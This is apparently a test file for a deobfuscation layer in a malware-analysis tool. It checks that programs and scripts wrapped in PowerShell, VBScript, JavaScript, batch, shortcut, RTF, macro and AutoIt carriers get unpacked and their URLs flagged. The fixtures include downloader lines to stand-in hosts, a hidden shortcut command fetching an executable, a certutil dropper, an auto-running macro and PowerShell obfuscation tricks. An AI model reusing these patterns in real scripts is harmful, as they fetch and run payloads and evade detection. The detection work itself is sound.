import { writeCfb } from "@assay/carriers/cfb-writer";
import { demoBatch } from "@assay/carriers/demo";
import {
  vbe,
  wrapBatPs1GzipAes,
  wrapEncodedCommand,
  wrapHta,
  wrapJs,
  wrapLnk,
  wrapPs1Base64,
  wrapPs1Gzip,
  wrapPs1Pieces,
  wrapPs1Xor,
  wrapRtf,
  wrapVbs,
} from "@assay/carriers/script-wrap";
import { describe, expect, it } from "vitest";
import { latin1, latin1Bytes, utf16leBytes } from "../../bytes/index.ts";
import { openImage } from "../../formats/index.ts";
import { Ledger } from "../../model/index.ts";
import { Budget } from "../budget.ts";
import type { LayerOutput } from "../layer.ts";
import { AUTOIT_MAGIC, adler32 } from "./autoit.ts";
import { lame, mersenne, unpackLzss } from "./autoit-ciphers.ts";
import { scripts } from "./index.ts";

function peel(bytes: Uint8Array, name?: string): LayerOutput & { texts: string[] } {
  const ledger = new Ledger(bytes);
  const out = scripts.peel({
    image: openImage(ledger.sample),
    format: "text",
    name,
    ledger,
    budget: new Budget(),
  });
  return { ...out, texts: out.inner.map(({ view }) => latin1(view.bytes)) };
}

const program = (demoBatch()[0] as { bytes: Uint8Array }).bytes;
const has = ({ inner }: LayerOutput): boolean =>
  inner.some(({ view }) => Buffer.compare(view.bytes, program) === 0);

describe("a program in a script comes out", () => {
  it.each([
    ["base64 in ps1", wrapPs1Base64(program), "a.ps1"],
    ["base64 in pieces", wrapPs1Pieces(program), "a.ps1"],
    ["gzip in ps1", wrapPs1Gzip(program), "a.ps1"],
    ["xor in ps1", wrapPs1Xor(program), "a.ps1"],
    ["bat, ps1, gzip, aes", wrapBatPs1GzipAes(program), "a.bat"],
    ["bat, ps1, gzip, aes, by content", wrapBatPs1GzipAes(program, program.subarray(0, 8192)), undefined],
    ["hex in vbs", wrapVbs(program), "a.vbs"],
    ["base64 backwards in js", wrapJs(program), "a.js"],
    [
      "hex in pairs",
      latin1Bytes(
        `$h = '${Buffer.from(program)
          .toString("hex")
          .replace(/..(?=.)/g, "$&-")}'.Split('-')\r\n`,
      ),
      "a.ps1",
    ],
    [
      "certutil",
      latin1Bytes(
        `@echo off\r\ncertutil -decode "%~f0" a.exe\r\nexit /b\r\n-----BEGIN CERTIFICATE-----\r\n${Buffer.from(program).toString("base64").replace(/.{64}/g, "$&\r\n")}\r\n-----END CERTIFICATE-----\r\n`,
      ),
      "a.bat",
    ],
    ["behind a link", wrapLnk("-c x", program), "a.lnk"],
    ["package in rtf", wrapRtf(program), "a.doc"],
    ["utf-16 ps1", utf16leBytes(`\ufeff${latin1(wrapPs1Base64(program))}`), "a.ps1"],
  ])("%s", (_, bytes, name) => {
    const out = peel(bytes, name);
    expect(out.reasons.filter(({ code }) => code === "cut")).toEqual([]);
    expect(has(out)).toBe(true);
  });
});

describe("coatings come off", () => {
  it.each([
    ["format operator", "a.ps1", `iex ("{1}{0}{2}" -f 'load','Down','String')`, "'DownloadString'"],
    ["char codes", "a.ps1", "$x = -join [char[]](104,116,116,112)", "'http'"],
    ["xor in a pipeline", "a.ps1", "$x = -join ((51,47,47,43) | % {[char]($_ -bxor 0x5b)})", "'http'"],
    ["backticks", "a.ps1", 'I`nv`oke-Ex`pression "whoami /all"', "invoke-expression"],
    ["reversal by index", "a.ps1", "$r = 'ptth'[-1..-4] -join ''", "'http'"],
    ["replace", "a.ps1", "$r = 'hZZtp'.Replace('ZZ','t')\n$q = ('a~b' -replace '~','c')", "'acb'"],
    ["variables", "a.ps1", "$a='Net.Web'; $b='Client'; $c = $a + $b; New-Object ($a+$b)", "'Net.WebClient'"],
    ["comspec letters", "a.ps1", "& ($env:ComSpec[4,15,25]-join '') $x", "'iex'"],
    [
      "base64 text",
      "a.ps1",
      "$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL2EuZXhhbXBsZS9i'))",
      "http://a.example/b",
    ],
    ["chr and hex", "a.vbs", 'x = Chr(119) & ChrW(&H53) & chr(80+3) & "h"', '"wSSh"'],
    ["StrReverse", "a.vbs", 'Set o = CreateObject(StrReverse("llehS.tpircSW"))', '"WScript.Shell"'],
    ["split and join", "a.vbs", 'y = Join(Split("W#S#h","#"),"")', '"WSh"'],
    ["vbs variables", "a.vbs", 'a = "Msxml2."\nb = a & "XMLHTTP"\n', '"Msxml2.XMLHTTP"'],
    ["fromCharCode", "a.js", "var a = String.fromCharCode(0x68,105) + '\\x2e\\u0065';", '"hi.e"'],
    ["table of characters", "a.js", "var t='abc'; var s = t.charAt(2)+t['charAt'](0)+t[1];", '"cab"'],
    ["regex replace", "a.js", "var s='h#t#t#p'.replace(/#/g,'');", '"http"'],
    ["unescape", "a.js", "var s = unescape('%68%u0069');", '"hi"'],
    [
      "set and percent",
      "a.bat",
      "@echo off\r\nset a=pow\r\nset b=ershell\r\n%a%%b% -c ls\r\n",
      "powershell -c ls",
    ],
    ["substrings and carets", "a.bat", "set k=zyxwpoc\r\n%k:~4,2%w^er%junk%shell\r\n", "powershell"],
    ["delayed", "a.cmd", 'set "q=calc"\r\n!q!.exe\r\n', "calc.exe"],
  ])("%s", (_, name, script, expected) => {
    const { inner, texts } = peel(latin1Bytes(script.padEnd(8)), name);
    expect(inner.length).toBeGreaterThan(0);
    expect(texts.join("\n")).toContain(expected);
  });

  it.each([
    ["a loop's variable", "a.vbs", 'i = "a"\nFor n = 1 To 3\ni = i & "b"\nx = i & "c"\nNext\n'],
    ["a parameter", "a.js", "function f(a){ return a + 1; }\nvar b = f(2);"],
    ["unknown parts", "a.ps1", "$x = Get-Date\n$y = 2 * $x\n"],
    ["plain code", "a.bat", "@echo off\r\necho hello\r\n"],
  ])("and nothing is claimed of %s", (_, name, script) => {
    expect(peel(latin1Bytes(script), name).inner).toEqual([]);
  });
});

describe("a further script comes out of", () => {
  const inside = `$c = New-Object Net.WebClient; $c.DownloadString("http://next.example/x.ps1")`;
  it.each([
    ["EncodedCommand", wrapEncodedCommand(inside), "a.bat"],
    ["EncodedCommand of a link", wrapEncodedCommand(inside), "a.cmd"],
    ["a page", wrapHta(inside), "a.hta"],
    ["encoded script", vbe(inside), "a.vbe"],
    ["eval", latin1Bytes(`var a = 'x';\neval(${JSON.stringify(inside)});`), "a.js"],
    ["Execute", latin1Bytes(`Execute("${inside.replaceAll('"', '""')}")`), "a.vbs"],
  ])("%s", (_, bytes, name) => {
    const { inner, texts } = peel(bytes, name);
    expect(texts.some((text) => text.trim() === inside)).toBe(true);
    expect(inner.every(({ kind }) => kind === "script")).toBe(true);
  });

  it("an encoded script, whose checksum holds", () => {
    expect(peel(vbe(inside), "a.vbe").reasons.filter(({ code }) => code === "checksum")).toEqual([]);
  });

  it("a macro", () => {
    const code = 'Attribute VB_Name = "m"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'.padEnd(4096);
    // A container of one raw chunk (header 0x3fff), behind two bytes of p-code.
    const raw = (content: Uint8Array): number[] => [1, 0xff, 0x3f, ...content];
    // MODULESTREAMNAME "m", MODULEOFFSET 2.
    const records = Uint8Array.from([0x1a, 0, 1, 0, 0, 0, 0x6d, 0x31, 0, 4, 0, 0, 0, 2, 0, 0, 0]);
    const dir = new Uint8Array(4096);
    dir.set(records);
    const doc = writeCfb({
      "Macros/VBA/dir": Uint8Array.from(raw(dir)),
      "Macros/VBA/m": Uint8Array.from([9, 9, ...raw(latin1Bytes(code))]),
    });
    expect(peel(doc, "a.doc").texts).toEqual([code]);
  });

  it("a macro whose offset is lost", () => {
    const packed = Uint8Array.from([7, 1, 0x0b, 0xb0, 0, ...latin1Bytes("Attribut"), 0, 0x65, 0x0a]);
    const doc = writeCfb({ "VBA/dir": Uint8Array.of(1, 2, 3), "VBA/m": packed });
    expect(peel(doc, "a.doc").texts).toEqual(["Attribute\n"]);
  });

  it("a compiled AutoIt script, with the file that it carries", () => {
    const u32 = (value: number): number[] =>
      [value, value >> 8, value >> 16, value >> 24].map((byte) => byte & 0xff);
    const string = (text: string, xor: number, add: number): number[] => [
      ...u32(text.length ^ xor),
      ...lame(utf16leBytes(text), text.length + add),
    ];
    const entry = (type: string, path: string, content: Uint8Array): number[] => [
      ...lame(latin1Bytes("FILE"), 0x18ee),
      ...string(type, 0xadbc, 0xb33f),
      ...string(path, 0xf820, 0xf479),
      0,
      ...u32(content.length ^ 0x87bc),
      ...u32(content.length ^ 0x87bc),
      ...u32(adler32(content) ^ 0xa685),
      ...new Uint8Array(16),
      ...lame(content, 0x2477),
    ];
    const word = (text: string): number[] => [
      ...u32(text.length),
      ...utf16leBytes(text).map((byte, i) => byte ^ (i % 2 === 0 ? text.length & 0xff : text.length >> 8)),
    ];
    // $a = "http" & 5, end of line.
    const tokens = Uint8Array.from([
      ...u32(1),
      0x33,
      ...word("a"),
      0x41,
      0x36,
      ...word("http"),
      0x4d,
      5,
      ...u32(5),
      0x7f,
    ]);
    const file = Uint8Array.from([
      ...AUTOIT_MAGIC,
      ...latin1Bytes("AU3!EA06"),
      ...new Uint8Array(16),
      ...entry(">>>AUTOIT SCRIPT<<<", "C:\\a.au3", tokens),
      ...entry("x", "C:\\tmp\\data.bin", program.subarray(0, 300)),
    ]);
    const { inner, texts, reasons } = peel(file, "a.a3x");
    expect(reasons).toEqual([]);
    expect(texts[0]).toBe('$a = "http" & 5\r\n');
    expect(inner[1]).toMatchObject({ kind: "member", name: "data.bin" });
    expect(texts[1]).toBe(latin1(program.subarray(0, 300)));
  });

  it("the older cipher of AutoIt, by the published first outputs of MT19937", () => {
    // init_genrand(5489): 3499211612, 581869302, 3890346734, 3586334585; each byte is bits 1 to 8.
    expect([...mersenne(new Uint8Array(4), 5489)]).toEqual(
      [3499211612, 581869302, 3890346734, 3586334585].map((word) => (word >>> 1) & 0xff),
    );
  });

  it("LZSS of AutoIt, literals and a copy that overlaps itself", () => {
    // EA06, 6 bytes: 1 'a', 1 'b', 0 offset 2, length 3 + 1.
    const bits = `1${"01100001"}1${"01100010"}0${"000000000000010"}01`.padEnd(48, "0");
    const packed = Uint8Array.from([
      ...latin1Bytes("EA06"),
      0,
      0,
      0,
      6,
      ...(bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)),
    ]);
    expect(latin1(unpackLzss(packed, 100) ?? new Uint8Array(0))).toBe("ababab");
    expect(unpackLzss(packed, 5)).toBeUndefined();
  });
});

describe("URLs and commands are told", () => {
  it("of a link", () => {
    const { reasons } = peel(wrapLnk("-w hidden iwr http://dl.example/p.exe -OutFile x"), "a.lnk");
    expect(reasons.map(({ code }) => code)).toEqual(["command", "url"]);
    expect(reasons[1]?.text).toBe("http://dl.example/p.exe");
  });

  it("of folded text, with their place", () => {
    const { reasons, inner } = peel(wrapVbs(new Uint8Array(64)), "a.vbs");
    const url = reasons.find(({ code }) => code === "url");
    expect(url?.text).toBe("http://download.example/a.bin");
    expect(url?.at?.[0]?.artifact).toBe(inner[0]?.view.artifact);
  });

  it("of an internet shortcut", () => {
    const { reasons } = peel(
      latin1Bytes("[InternetShortcut]\r\nURL=file://1.example/a\r\nIconFile=http://i.example/i.ico\r\n"),
      "a.url",
    );
    expect(reasons.some(({ code, text }) => code === "url" && text === "http://i.example/i.ico")).toBe(true);
  });
});

describe("hostile text", () => {
  const repeat = (text: string, size: number): Uint8Array =>
    latin1Bytes(text.repeat(Math.ceil(size / text.length)));
  it.each([
    "a.",
    "((((",
    '"+"',
    "$a+",
    "%a%",
    "^",
    "& _\n",
    "{1}{0}",
    "[char]",
    "<script>",
    "`",
    "a(b(",
    "eval(",
    "-e ",
    "#@~^AAAAAA==",
    "x=x&x\n",
    "://",
    "\\objdata ",
    "1,",
  ])("%j ends soon in every language", (text) => {
    const bytes = repeat(text, 300_000);
    for (const name of ["a.ps1", "a.vbs", "a.js", "a.bat", "a.hta"]) {
      const begin = performance.now();
      peel(bytes, name);
      expect(performance.now() - begin).toBeLessThan(4000);
    }
  });

  it("and says when it was cut", () => {
    const { reasons } = peel(repeat("(", 2_000_000), "a.js");
    expect(reasons.some(({ code }) => code === "cut")).toBe(true);
  });

  it("of language put together by chance throws nothing", () => {
    const words =
      `( ) [ ] { } ' " \` $a $b a = += + - * , ; . :: | % ^ & ! [char] [convert] -join -f .. -replace -bxor 1 65 0x41 999999999999 'abc' "x$a" chr( execute eval( .split( .join( /x/g replace( string( set %a:~1,2% for next function @( <# rem &H \\x41 -enc iex $_ \n _\n`.split(
        " ",
      );
    let seed = 3;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return (seed >>> 8) % below;
    };
    for (let n = 0; n < 300; n++) {
      const text = Array.from({ length: 200 }, () => words[random(words.length)]).join(" ");
      peel(latin1Bytes(text), ["a.ps1", "a.vbs", "a.js", "a.bat", "a.hta"][n % 5]);
    }
  });

  it("damaged in any place throws nothing", () => {
    const sources = [
      wrapLnk("-c x", program.subarray(0, 64)),
      wrapRtf(program.subarray(0, 512)),
      vbe("x = 1"),
      wrapBatPs1GzipAes(program.subarray(0, 512)),
      writeCfb({ "VBA/m": program.subarray(0, 600), "\x01Ole10Native": program.subarray(0, 300) }),
    ];
    let seed = 7;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return (seed >>> 8) % below;
    };
    for (let n = 0; n < 400; n++) {
      const bytes = Uint8Array.from(sources[n % sources.length] as Uint8Array);
      for (let k = 0; k < 4; k++) bytes[random(bytes.length)] = random(256);
      peel(
        bytes.subarray(0, random(4) === 0 ? random(bytes.length) : bytes.length),
        ["a.lnk", "a.doc", "a.vbe", "a.bat", "a.doc"][n % 5],
      );
    }
  });
});

describe("what is not its business", () => {
  it("costs next to nothing", () => {
    const text = repeatText("The quick brown fox jumps over the lazy dog. ", 8_000_000);
    const begin = performance.now();
    expect(peel(text, "notes.txt")).toMatchObject({ inner: [], reasons: [] });
    expect(peel(program, "a.exe")).toMatchObject({ inner: [], reasons: [] });
    expect(performance.now() - begin).toBeLessThan(100);
  });
});

function repeatText(text: string, size: number): Uint8Array {
  return latin1Bytes(text.repeat(Math.ceil(size / text.length)));
}
